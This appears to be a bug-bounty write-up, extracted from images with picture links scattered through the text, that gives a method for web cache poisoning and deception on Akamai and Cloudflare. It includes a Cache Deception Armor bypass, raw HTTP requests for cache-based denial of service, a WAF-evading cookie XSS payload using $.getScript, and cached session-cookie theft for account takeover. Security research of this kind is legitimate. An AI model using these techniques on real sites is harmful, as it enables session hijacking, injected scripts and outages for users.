How I Test For Web Cache Vulnerabilities + Tips And Tricks

5 min readJul 21, 2022



I will be sharing my “Methodology” from start to end when looking for Cache Issues, then I will share recent Real-Cases Scenarios with their respective Bounties.

It is worth sharing that I don’t use Automated tools to find these issues. In fact the Only Automated Tool I use for my general testing is SQLmap for SQLi.


If the application does not have a login functionality, but using Akamai CDN, these are my steps:

  • Send the first request to Repeater
  • Check if the server is caching normal requests (you can tell this by the response header “Server-Timing: cdn-cache; desc=HIT”)
  • Add an Illegal Request Header into the request• If the response was successfully cached, when you open the URL on any browser, you should get a 400 Bad RequestIf the Application does have a Login Functionality

  • Create an account
  • Check if any sensitive information is disclosed in any page (e.g Session Token)
  • Send the request to Repeater
  • Add a Cacheable Extension (.js , .css) at the end of the URL and see if it gives a 200 OK Response
  • Open the Modified URL using your authenticated Account
  • Open the Same URL using curl or Private Web Browser Window
  • If the Token was successfully Cached you should see the Token in the response

If the Application is using Cloudflare CDN

Illegal headers won’t work, and now most Cloudflare Customers are using Cache Deception Armor

I was able to bypass this protection using .avif file which is a really unknown extension file.


However, there are some sites that don’t have this protection activated and you can perfectly test for Cache Poisoning/Deception


Cache Deception To Account Takeover → Bounty = $1,500


All cookies (even HTTPonly ones) are being disclosed in

if an authenticated user visits this URL all their cookies will be stored in the cache

An attacker can then extract the cookie and hijack their Session

  • Note:

Sometimes, if the response is a “404 Not found” Akamai only caches the response for less than 10 seconds, making this harder forthe attacker. The attacker needs to be quick in this case, however, if Akamai Detects a 200 Ok Response, the response will last for at least 24 Hours.

  • Tip & Trick

In some Applications, if you add a Semicolon (;) before the extension it may give you a 200 Ok response




HTTP/2 200 Ok

Cache Poisoning To DoS → Bounty = $1,000


In Akamai CDN, If we send a backslash \ as a header, the server will respond with a 400 Bad Request Response


GET /products/xxx/xxxx/xxx/?test HTTP/2
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Upgrade-Insecure-Requests: 1
Te: trailers


HTTP/2 400 Bad RequestContent-Type: text/html;charset=iso-8859-1Content-Length: 70Cache-Control: max-age=297Expires: Thu, 21 Jul 2022 16:17:54 GMTDate: Thu, 21 Jul 2022 16:12:57 GMTServer-Timing: cdn-cache; desc=HITServer-Timing: edge; dur=32Server-Timing: origin; dur=147Strict-Transport-Security: max-age=86400Ak-Uuid: 0.bc85d817.1658419977.1592c61

This becomes an issue when the site uses caching servers. Sites typically only caches javascript, css and other files, but when sites like also caches normal responses like**


It becomes a very impactful bug.

  • Tip & Trick

Akamai has a workaround for this exploit, by making the 400 response to only last 5 seconds in the cache, however, an attacker can send null payloads using intruder in burp, so that the same 400response gets cached forever

Cache Poisoning To Stored XSS → Bounty = $1,000


There is a XSS via then_vis Cookie Parameter

Since the server caches thisresponse, an attacker could be able to save a XSS Payload

There is a strong Filter (and WAF) that blocks most payloads, but since the site is using Jquery, an attacker can use the $.getScript Function to exploit this.


GET /xxxx/xx-xx.otf?triagethissHTTP/2
Cookie: n_vis=xssx'*$.getScript`//`//;
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: en-xss,en;q=0.5
Accept-Encoding: gzip, deflate
Upgrade-Insecure-Requests: 1
Te: trailers• Tip & Trick

Test for XSS on any Request Header,Cookies, Custom Headers, X-Forwarded-* Headers

Cache Deception Allows CSRF Attacks & StoredXSS → Bounty = ?

Soon →